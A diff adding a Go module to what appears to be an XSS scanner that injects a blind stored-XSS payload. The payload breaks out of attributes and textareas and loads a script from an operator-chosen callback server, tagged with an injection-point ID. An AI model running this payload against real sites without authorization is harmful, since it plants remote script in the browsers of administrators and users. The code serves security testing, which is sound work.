@@ -0,0 +1,56 @@
+package scanner
+
+import (
+	"fmt"
+	"net/url"
+	"strings"
+
+	"github.com/bytes-Knight/xssrecon/pkg/utils"
+)
+
+// blindPayload loads a script from the callback server. It first breaks out
+// of quoted attributes, tags and textareas, which stored input commonly
+// lands in, and the callback path carries the injection point's ID.
+const blindPayload = `'"></textarea><script src=%s></script>`
+
+// blindProbe injects a script-src callback payload through target for
+// stored XSS that renders somewhere else, such as an admin panel or a log
+// viewer, where the reflection can't be observed directly. The callback URL
+// ends with the ID returned, which is the injection point's blind
+// fingerprint, so hits on the callback server can be traced back to it.
+func (s *Scanner) blindProbe(req *utils.Request, target utils.Target) (string, error) {
+	id := Fingerprint(req.URL, target.Param, "blind")
+	callback := strings.TrimRight(s.opts.Blind, "/") + "/" + id
+	s.resetState(req)
+	testTarget, ok := s.probeTarget(req, target.Param, fmt.Sprintf(blindPayload, callback))
+	if !ok {
+		return "", fmt.Errorf("no injection point %s for blind payload", target.Param)
+	}
+	if _, err := s.fetch(testTarget); err != nil {
+		return "", err
+	}
+	return id, nil
+}
+
+// validateBlind checks that the --blind callback is an absolute HTTP(S)
+// URL a browser can load a script from.
+func validateBlind(callback string) error {
+	u, err := url.Parse(callback)
+	if err != nil || (u.Scheme != "http" && u.Scheme != "https") || u.Host == "" {
+		return fmt.Errorf("invalid --blind URL %q (use http:// or https://)", callback)
+	}
+	return nil
+}
+
+// printBlind reports the ID the blind payload was sent with.
+func (s *Scanner) printBlind(id string) {
+	if s.opts.JSONOutput || id == "" {
+		return
+	}
+	callback := strings.TrimRight(s.opts.Blind, "/") + "/" + id
+	if s.opts.NoColor {
+		fmt.Printf("BLIND PAYLOAD SENT: %s\n", callback)
+	} else {
+		fmt.Printf("\033[95mBLIND PAYLOAD SENT: %s\033[0m\n", callback)
+	}
+}